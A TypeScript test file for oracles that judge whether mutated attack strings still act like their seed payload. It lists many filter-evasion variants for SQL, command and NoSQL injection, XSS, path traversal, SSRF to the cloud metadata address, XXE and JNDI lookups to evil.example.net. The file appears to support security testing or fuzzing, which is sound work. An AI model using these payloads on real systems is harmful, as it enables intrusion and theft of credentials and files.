/** Each oracle says yes to what attacks like the seed, and no to what is broken, harmless, or another attack. */
import { describe, expect, test } from "vitest";
import { mutatedClasses } from "../../../adversary/classes.ts";
import { pagesAttacked } from "../../../adversary/oracle/markup.ts";
import { commandsOf } from "../../../adversary/oracle/shell-words.ts";
import { statementsOf, translateMySql } from "../../../adversary/oracle/sql-dialect.ts";

interface Case {
  readonly type: string;
  readonly seed: string;
  readonly same: readonly string[];
  readonly broken: readonly string[];
}

const cases: readonly Case[] = [
  {
    type: "sqli",
    seed: "x' or 1=1--",
    same: ["x'/**/OR/*a b*/2>1--", "words before' or '{\"a\":1}'->>'$.a'=1 -- x", "x' or not 1=2 -- "],
    broken: [
      "x or 1=1--",
      "x'' or 1=1--",
      "x' or 1=2--",
      "x' orr 1=1--",
      "x' or 1=1",
      "%27 or 1=1--",
      "x' or 1=1; drop table users--",
    ],
  },
  { type: "sqli", seed: "x' or 1=1-- ", same: ["x'||0x1=1#"], broken: ["x'||0x1=2#"] },
  {
    type: "sqli",
    seed: "1 union select name,password,3 from users",
    same: [
      "1/**/union select all name,password,1+2 from users",
      "1 union/*!50000select*/name,password,(3)from users",
    ],
    broken: [
      "1 union select name,password from users",
      "1 union select name,email,3 from users",
      "1 union selec name,password,3 from users",
      "union",
    ],
  },
  {
    type: "sqli",
    seed: "1' and sleep(5)#",
    same: ["1' and sleep(0x5) -- "],
    broken: ["1' and sleep(6)#", "1' and sleep 5#"],
  },
  {
    type: "xss",
    seed: "<img src=x onerror=alert(1)>",
    same: [
      "<svg onload=alert`1`>",
      "<IMG/src=x\nonerror='&#97;lert(1)'>",
      "<script>top['al'+'ert'](1)</script>",
    ],
    broken: [
      "<img src=x onerror=alert(1>",
      "<img src=x onerrr=alert(1)>",
      "&lt;img src=x onerror=alert(1)&gt;",
      "<img src=x onerror=>",
      "<!-- <img src=x onerror=alert(1)> -->",
      "img src=x onerror=alert(1)",
    ],
  },
  {
    type: "xss",
    seed: "';alert(1)//",
    same: ["';self['alert'](1)//"],
    broken: ["alert(1)//", "\\';alert(1)//", "';alert(1//"],
  },
  {
    type: "cmdi",
    seed: "; cat /etc/passwd",
    same: [
      "|c''at${IFS}/e?c/pas*wd",
      ";{cat,/etc/passwd}",
      "\n$(printf '\\143at') /etc//passwd",
      "; echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh",
      "; a=ca;b=t;$a$b</etc/passwd",
      '; : words;c\\at "/etc/pass"wd #x',
    ],
    broken: [
      "; cat /etc/hosts",
      ";; cat /etc/passwd",
      "; c''at /etc/passwd'",
      "cat /etc/passwd",
      "; #cat /etc/passwd",
      "; true || cat /etc/passwd",
      "; 'cat /etc/passwd'",
      "; echo cat /etc/passwd",
      "; $(cat /etc/passwd",
    ],
  },
  {
    type: "path-traversal",
    seed: "../../../etc/passwd",
    same: [
      "..%2f..%2f..%2f..%2fetc/passwd",
      "....//....//....//etc/./passwd",
      "..%252f..%252f..%252fetc//passwd",
      "/etc/passwd",
      "a/b/../../../../../etc/passwd",
      "..%c0%af..%c0%af..%c0%afetc/passwd\0.jpg",
      "/proc/self/root/etc/passwd",
    ],
    broken: [
      "../../etc/passwd",
      "../../../etc/password",
      "etc/passwd",
      "..\\..\\..\\etc\\passwd",
      "%2e%2g/%2e%2e/%2e%2e/etc/passwd",
      ".../.../.../etc/passwd",
      "../../../etc/passwd.jpg",
    ],
  },
  {
    type: "ssrf",
    seed: "http://169.254.169.254/latest/meta-data/",
    same: [
      "http://0xa9fea9fe/latest/meta-data/",
      "HTTP://u:p@2852039166:80/latest/./meta-data/?x=1",
      "http:\\\\[::ffff:a9fe:a9fe]/latest/meta-data/#y",
      "http://169。254。169。254/latest/meta-data/",
    ],
    broken: [
      "http://169.254.169.255/latest/meta-data/",
      "http://169.254.169.254@example.com/latest/meta-data/",
      "http://169.254.169.254:8080/latest/meta-data/",
      "https://169.254.169.254/latest/meta-data/",
      "http://0xa9fea9feff/latest/meta-data/",
      "http://example.com/?u=169.254.169.254",
    ],
  },
  {
    type: "rfi",
    seed: "http://evil.example.net/a.txt?",
    same: ["hTTp://x@evil.example.net/./a.txt#y"],
    broken: ["http://other.example.net/a.txt?", "http://evil.example.net/b.txt", "/a.txt"],
  },
  {
    type: "ssti",
    seed: "{{config.items()}}",
    same: [
      "{{ config['items']() }}",
      "{%print(config|attr('it'~'ems')())%}",
      "words {{'a b' and config . items ( ) }} {#x#}",
    ],
    broken: [
      "{{config.items()",
      "{{config.item()}}",
      "{config.items()}",
      "{{'config.items()'}}",
      "{#{{config.items()}}#}",
      "{{config.items}}",
    ],
  },
  {
    type: "nosqli",
    seed: '{"password":{"$ne":null}}',
    same: [
      '{"password":{"$gt":""}}',
      '{ "note":"a b", "password" : {"\\u0024ne" : 1}}',
      '{"$and":[{"password":{"$regex":".*"}}]}',
    ],
    broken: [
      '{"password":{"ne":null}}',
      '{"password":{"$eq":null}}',
      '{"password":{"$ne":null}',
      '{"password":"$ne"}',
      '{"password":{"$in":[]}}',
      '{"login":{"$ne":null}}',
      '{"password":{"$and":[{"$ne":null}]}}',
    ],
  },
  {
    type: "nosqli",
    seed: "' || '1'=='1",
    same: ["words' || /*x*/ '1'\n== '1"],
    broken: ["' || '1'=='2", "|| 1==1", "' || '1'=='1'"],
  },
  {
    type: "ldapi",
    seed: "*)(uid=*))(|(uid=*",
    same: ["*)( UID=*))(|(uid=*words"],
    broken: ["\\2a\\29", "x)(cn=y", "(", "x"],
  },
  {
    type: "xxe",
    seed: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    same: ["<!-- x y --><!DOCTYPE c [<!--z--><!ENTITY\nd PUBLIC 'p' 'FILE:/etc/passwd' >]><a>some &d;</a>"],
    broken: [
      '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts">]><a>&b;</a>',
      '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&c;</a>',
      "<!DOCTYPE a [<!ENTITY b SYSTEM file:///etc/passwd>]><a>&b;</a>",
      '<!doctype a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
      '<!DOCTYPE a [<!ENTITY b "file:///etc/passwd">]><a>&b;</a>',
      '<!DOCTYPE a [<!-- <!ENTITY b SYSTEM "file:///etc/passwd"> -->]><a>&b;</a>',
    ],
  },
  {
    type: "crlf",
    seed: "x\r\nSet-Cookie: a=b",
    same: ["x%0d%0aset-cookie:a=b", "y嘊Set-Cookie: a=b; words", "x\nWarning: z\nSet-Cookie: a=b"],
    broken: ["x Set-Cookie: a=b", "x\r\nSet-Cooky: a=b", "x%0zSet-Cookie: a=b"],
  },
  {
    type: "other",
    seed: "${jndi:ldap://evil.example.net/a}",
    same: [
      "${${lower:J}ndi:l${::-d}ap://evil.example.net/x}",
      "words ${jn${env:a:-d}i:${date:'l'}dap://evil.example.net/}",
    ],
    broken: [
      "${jndi:ldap://evil.example.net/a",
      "${jdni:ldap://evil.example.net/a}",
      "${jndi:ldap://other.example.net/a}",
      "${jndi:rmi://evil.example.net/a}",
      "$ {jndi:ldap://evil.example.net/a}",
      "${lower:jndi:ldap://evil.example.net/a}",
    ],
  },
];

describe.each(cases.map((entry) => [`${entry.type}: ${JSON.stringify(entry.seed)}`, entry] as const))(
  "%s",
  (_, entry) => {
    const { oracle } = mutatedClasses.find(({ type }) => type === entry.type)!;
    const proof = oracle.prove(entry.seed);

    test("is a seed", () => {
      expect(proof?.(entry.seed)).toBe(true);
    });
    test.each(entry.same)("still attacks as %j", (mutant) => {
      expect(proof!(mutant)).toBe(true);
    });
    test.each(entry.broken)("does not attack as %j", (mutant) => {
      expect(proof!(mutant)).toBe(false);
    });
  },
);

test.each(mutatedClasses.map(({ type, oracle }) => [type, oracle] as const))(
  "%s: ordinary text is no seed",
  (_, oracle) => {
    for (const text of [
      "hello",
      "O'Brien & Sons",
      "tea, coffee; milk",
      "a < b and c > d",
      "notes.txt",
      "1",
      "",
      "it's 5 o'clock",
      "C++ (draft)",
    ])
      expect(oracle.prove(text), text).toBeUndefined();
  },
);

test("a seed may not reach files through SQLite", () => {
  const { oracle } = mutatedClasses[0]!;
  for (const seed of [
    "'; attach database '/tmp/x.php' as y--",
    "'; VACUUM INTO '/tmp/x'--",
    "1 union select load_extension('x')",
  ])
    expect(oracle.prove(seed)).toBeUndefined();
  expect(oracle.prove("x' or 1=1--")!("x' or 1=1; ATTACH '/tmp/x' AS y--")).toBe(false);
});

test.each([
  ["a&&b||c", "a AND b OR c"],
  ["'a' 'b'", "'ab'"],
  ["'a\\'b'", "'a''b'"],
  ['"a\'b"', "'a''b'"],
  ["1# x\n+1", "1 \n+1"],
  ["1/*!50000+*/1", "1 + 1"],
  ["@@version", "variable('@@version')"],
  ["1e0or 1", "1e0 or 1"],
])("MySQL's %j reads %j", (mysql, sqlite) => {
  expect(translateMySql(mysql)?.replaceAll(/ +/g, " ")).toBe(sqlite);
});

test.each(["'a", '"a', "/* a", "/*! a"])("%j does not end in MySQL", (text) => {
  expect(translateMySql(text)).toBeUndefined();
});

test("statements are parted outside of quotes and comments", () => {
  expect(statementsOf("select ';' ; drop table x -- ; y\n; -- z")).toEqual([
    "select ';' ",
    " drop table x -- ; y\n",
  ]);
  expect(statementsOf("select 'a")).toBeUndefined();
});

test.each([
  ["echo $(id) `whoami`", [["id"], ["whoami"]]],
  ["cat /etc/pass?d", [["cat", "/etc/passwd"]]],
  ["cat '/etc/pass?d'", [["cat", "/etc/pass?d"]]],
  ["ls|sort -r&&id", [["ls"], ["sort", "-r"], ["id"]]],
  ["\r", [["\r"]]],
  ["sh -c 'id;ls'", [["id"], ["ls"]]],
  ["if true;then id;fi", [["id"]]],
])("%j runs %j", (script, commands) => {
  expect(commandsOf(script)).toEqual(commands);
});

test.each(["id ;; ls", "'id", "$(id", "(id", "id )", "${x!y}", "while true; do id; done"])(
  "%j is refused",
  (script) => {
    expect(commandsOf(script)).toBeUndefined();
  },
);

test("scripts that never end are refused in time", () => {
  expect(commandsOf("eval ".repeat(5_000))).toBeUndefined();
  expect(commandsOf("$(".repeat(50))).toBeUndefined();
});

test.each([
  ["<svg onload=alert(1)>", 0],
  ['" onfocus="alert(1)', 1],
  ["javascript:alert(1)", 3],
  ["'-alert(1)-'", 5],
  ["</script><script>alert(1)</script>", 5],
  ["</textarea><svg onload=alert(1)>", 9],
])("%j attacks in page %i", (payload, page) => {
  expect(pagesAttacked(payload)).toContain(page);
});
